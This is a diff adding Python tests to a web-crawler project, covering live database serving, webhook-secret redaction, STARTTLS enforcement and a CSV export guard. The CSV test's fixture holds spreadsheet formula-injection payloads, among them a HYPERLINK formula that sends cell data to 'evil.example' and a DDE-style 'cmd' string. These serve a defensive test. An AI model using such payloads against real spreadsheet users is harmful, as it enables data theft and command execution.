@@ -189,7 +189,10 @@ import socket  # noqa: E402
 import subprocess  # noqa: E402
 import sys  # noqa: E402
 import time  # noqa: E402
+import urllib.error  # noqa: E402
 import urllib.request  # noqa: E402
+import http.server  # noqa: E402
+import threading  # noqa: E402
 from pathlib import Path  # noqa: E402
 
 from tests.faultserver import HostileWeb, corpus_story  # noqa: E402
@@ -527,3 +530,178 @@ def test_extraction_workers_die_with_a_killed_crawler(tmp_path):
         finally:
             if process.poll() is None:
                 process.kill()
+
+
+# -- `cuttings serve` on a database a run is writing to -----------------------------------------
+
+def _free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+def _get_json(url: str):
+    with urllib.request.urlopen(url, timeout=10) as response:
+        return response.status, json.loads(response.read())
+
+
+def test_serve_reads_a_live_database_while_a_run_writes(tmp_path):
+    """Rows written (and checkpointed) while Datasette serves are all seen, without errors; an
+    immutable-mode server would serve stale pages or "database disk image is malformed"."""
+    from cuttings import store
+
+    db_path = tmp_path / "live.db"
+    db = store.connect(db_path)
+    run_id = store.start_run(db, "crawl")
+    port = _free_port()
+    log = tmp_path / "serve.log"
+    with open(log, "wb") as out:
+        server = subprocess.Popen([sys.executable, "pipeline.py", "--db", str(db_path), "serve", "--port", str(port)],
+                                  cwd=Path(__file__).resolve().parent.parent, stdout=out, stderr=subprocess.STDOUT)
+    url = f"http://127.0.0.1:{port}/live/crawl_notices.json?_size=1&_shape=objects"
+    try:
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                _get_json(url)
+                break
+            except urllib.error.HTTPError:
+                raise
+            except OSError:
+                assert server.poll() is None and time.monotonic() < deadline, log.read_text()[-2000:]
+                time.sleep(0.3)
+        seen, written = [], 0
+        for batch in range(12):  # ~6 MB through the WAL: automatic checkpoints happen while serving
+            for _ in range(250):
+                store.record_notice(db, run_id, "live", url=f"https://example.org/{written}", message="x" * 1900)
+                written += 1
+            status, page = _get_json(url)
+            assert status == 200
+            seen.append(page["filtered_table_rows_count"])
+        assert seen == sorted(seen) and seen[-1] == written, seen
+    finally:
+        server.terminate()
+        server.wait(timeout=20)
+        db.conn.close()
+
+
+# -- Datasette's own CSV export guarded against spreadsheet formulas ----------------------------
+
+def test_datasette_csv_export_guards_formulas(tmp_path):
+    datasette_app = pytest.importorskip("datasette.app")
+    from datasette.plugins import pm
+
+    assert "cuttings.datasette_csv_guard" in {getattr(p, "__name__", "") for p in pm.get_plugins()}
+    db_path = tmp_path / "csvguard.db"
+    conn = sqlite3.connect(db_path)
+    values = ['=HYPERLINK("http://evil.example/?"&A1, "Council news")', "@SUM(1+1)*cmd|' /C calc'!A0",
+              "+44 1905 123456 call now", "-2+3", "\tTab first", "Plain headline, with a comma", "-3", "+4.5"]
+    conn.execute("CREATE TABLE articles (id INTEGER PRIMARY KEY, title TEXT)")
+    conn.executemany("INSERT INTO articles (title) VALUES (?)", [(v,) for v in values])
+    conn.commit()
+    conn.close()
+
+    async def fetch():
+        ds = datasette_app.Datasette([str(db_path)])
+        plain = await ds.client.get("/csvguard/articles.csv?_size=max")
+        streamed = await ds.client.get("/csvguard/articles.csv?_stream=on&_dl=1")
+        as_json = await ds.client.get("/csvguard/articles.json?_shape=array")
+        return plain, streamed, as_json
+
+    plain, streamed, as_json = asyncio.run(fetch())
+    expected = ["'" + v for v in values[:5]] + values[5:]
+    for response in (plain, streamed):
+        assert response.status_code == 200
+        rows = list(csv.DictReader(io.StringIO(response.text)))
+        assert [row["title"] for row in rows] == expected
+    assert [row["title"] for row in as_json.json()] == values  # JSON is data, not a spreadsheet
+
+
+# -- the webhook secret and SMTP login ----------------------------------------------------------
+
+WEBHOOK_SECRET = "T0000/B0000/XXXXsecretXXXXtoken"
+
+
+def test_webhook_url_never_on_command_line_nor_in_errors(tmp_path):
+    from cuttings import store
+
+    store.connect(tmp_path / "empty.db").conn.close()
+    hostile = {"db": tmp_path / "empty.db"}
+    out = tmp_path / "reports"
+    typed = run_cli("--db", str(hostile["db"]), "report", "--no-record", "--out", str(out),
+                    "--webhook", f"https://hooks.slack.com/services/{WEBHOOK_SECRET}")
+    assert typed.returncode == 1
+    assert "CUTTINGS_WEBHOOK_URL" in typed.stderr.decode()
+    assert WEBHOOK_SECRET not in (typed.stdout + typed.stderr).decode()
+
+    # a receiver that answers 500 and echoes the path it was given
+    class Echo(http.server.BaseHTTPRequestHandler):
+        def do_POST(self):  # noqa: N802
+            self.rfile.read(int(self.headers["Content-Length"]))
+            body = f"no such hook {self.path}".encode()
+            self.send_response(500)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    receiver = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Echo)
+    threading.Thread(target=receiver.serve_forever, daemon=True).start()
+    hook = f"http://127.0.0.1:{receiver.server_address[1]}/services/{WEBHOOK_SECRET}"
+    try:
+        from_env = run_cli("--db", str(hostile["db"]), "report", "--no-record", "--out", str(out), "--webhook",
+                           env={"CUTTINGS_WEBHOOK_URL": hook})
+        hook_file = tmp_path / "webhook.url"
+        hook_file.write_text(hook + "\n")
+        from_file = run_cli("--db", str(hostile["db"]), "report", "--no-record", "--out", str(out),
+                            "--webhook-file", str(hook_file))
+    finally:
+        receiver.shutdown()
+        receiver.server_close()
+    for result in (from_env, from_file):
+        assert result.returncode == 1
+        text = (result.stdout + result.stderr).decode()
+        assert "HTTP 500" in text and WEBHOOK_SECRET not in text
+    assert not run_cli("--db", str(hostile["db"]), "report", "--no-record", "--out", str(out), "--webhook",
+                       env={"CUTTINGS_WEBHOOK_URL": ""}).returncode == 0
+
+
+def test_smtp_login_requires_starttls_by_default():
+    from aiosmtpd.controller import Controller
+    from aiosmtpd.smtp import AuthResult
+
+    from cuttings import delivery
+
+    attempts = []
+
+    def authenticator(server, session, envelope, mechanism, auth_data):
+        attempts.append(auth_data)
+        return AuthResult(success=True)
+
+    class Inbox:
+        envelopes = []
+
+        async def handle_DATA(self, server, session, envelope):  # noqa: N802
+            self.envelopes.append(envelope)
+            return "250 OK"
+
+    inbox = Inbox()
+    controller = Controller(inbox, hostname="127.0.0.1", port=_free_port(), authenticator=authenticator,
+                            auth_require_tls=False)  # a server that would accept a password in clear
+    controller.start()
+    env = {"CUTTINGS_SMTP_HOST": "127.0.0.1", "CUTTINGS_SMTP_PORT": str(controller.port),
+           "CUTTINGS_SMTP_FROM": "c@example.org", "CUTTINGS_SMTP_TO": "a@example.org",
+           "CUTTINGS_SMTP_USER": "digest", "CUTTINGS_SMTP_PASSWORD": "pa55word"}
+    try:
+        with pytest.raises(delivery.DeliveryError, match="STARTTLS"):  # the server offers no STARTTLS
+            delivery.send_email("s", "<p>h</p>", "t", env=env)
+        with pytest.raises(delivery.DeliveryError, match="without STARTTLS"):
+            delivery.send_email("s", "<p>h</p>", "t", env={**env, "CUTTINGS_SMTP_STARTTLS": "0"})
+        assert attempts == [] and inbox.envelopes == []  # the password never left
+        delivery.send_email("s", "<p>h</p>", "t",
+                            env={**env, "CUTTINGS_SMTP_STARTTLS": "0", "CUTTINGS_SMTP_PLAINTEXT_LOGIN": "1"})
+        assert len(attempts) == 1 and len(inbox.envelopes) == 1  # the explicit opt-out still works
+    finally:
+        controller.stop()
